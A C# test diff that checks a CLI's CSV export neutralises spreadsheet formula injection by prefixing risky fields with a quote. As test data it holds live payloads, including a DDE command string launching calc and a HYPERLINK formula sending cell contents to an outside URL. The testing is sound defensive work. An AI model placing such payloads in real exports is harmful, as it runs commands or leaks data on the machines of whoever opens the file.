@@ -133,9 +133,52 @@ public sealed class CsvOutputTests
     [InlineData("cr\rlf\n", "\"cr\rlf\n\"")]
     [InlineData(" spaced ", " spaced ")]
     [InlineData("bell\a", @"bell\x07")]
+    [InlineData("O'Brien", "O'Brien")]
+    [InlineData("a=b", "a=b")]
     public void Field_follows_RFC_4180(string? value, string expected)
     {
         CsvOutput.Field(value).Should().Be(expected);
+    }
+
+    [Theory]
+    [InlineData("=1+1", "\"'=1+1\"")]
+    [InlineData("=HYPERLINK(\"http://x\"&A2,\"open\")", "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"open\"\")\"")]
+    [InlineData("@SUM(1+1)", "\"'@SUM(1+1)\"")]
+    [InlineData("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"")]
+    [InlineData("-1+1", "\"'-1+1\"")]
+    [InlineData("\r=1+1", "\"'\r=1+1\"")]
+    [InlineData("'quoted", "\"''quoted\"")]
+    [InlineData("\t=1+1", @"\t=1+1")]
+    [InlineData("\u200b=1+1", @"\u200b=1+1")]
+    public void A_field_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote_inside_a_quoted_field(string value, string expected)
+    {
+        CsvOutput.Field(value).Should().Be(expected);
+    }
+
+    [Fact]
+    public async Task Hostile_users_profiles_instances_and_revocations_reach_a_spreadsheet_as_text()
+    {
+        const string user = "=HYPERLINK(\"http://x\"&A2,\"open\")";
+        const string profile = "@SUM(1+1)";
+        const string instance = "+cmd|' /C calc'!A0";
+        var session = await _cli.Store.CreateAsync(ServerSession.Start(user, profile, instance, "-1+1", TimeSpan.FromHours(1), _cli.Time.GetUtcNow()));
+        await _cli.Store.RevokeAsync(session.Id, "=1+1", "\r\n=2+2");
+
+        foreach (var args in new[] { new[] { "list", "--status", "revoked" }, ["list", "--user", user, "--all"], ["show", session.Id] })
+        {
+            var result = await _cli.RunAsync([.. args, "--table", Table, "--output", "csv"]);
+
+            result.ExitCode.Should().Be(0, result.ToString());
+            var record = Parse(result.Out)[1];
+            record[2].Should().Be("'" + user);
+            record[3].Should().Be("'" + profile);
+            record[4].Should().Be("'" + instance);
+            record[5].Should().Be("'-1+1");
+            record[12].Should().Be("'=1+1");
+            record[13].Should().Be("'\r\n=2+2", "a line break first would start the cell's second line with a formula in some readers");
+            Parse(result.Out).SelectMany(fields => fields).Should()
+                .NotContain(cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), "no cell starts with a formula character");
+        }
     }
 
     /// <summary>A strict RFC 4180 reader: fails on a quote inside an unquoted field or text after a closing quote.</summary>
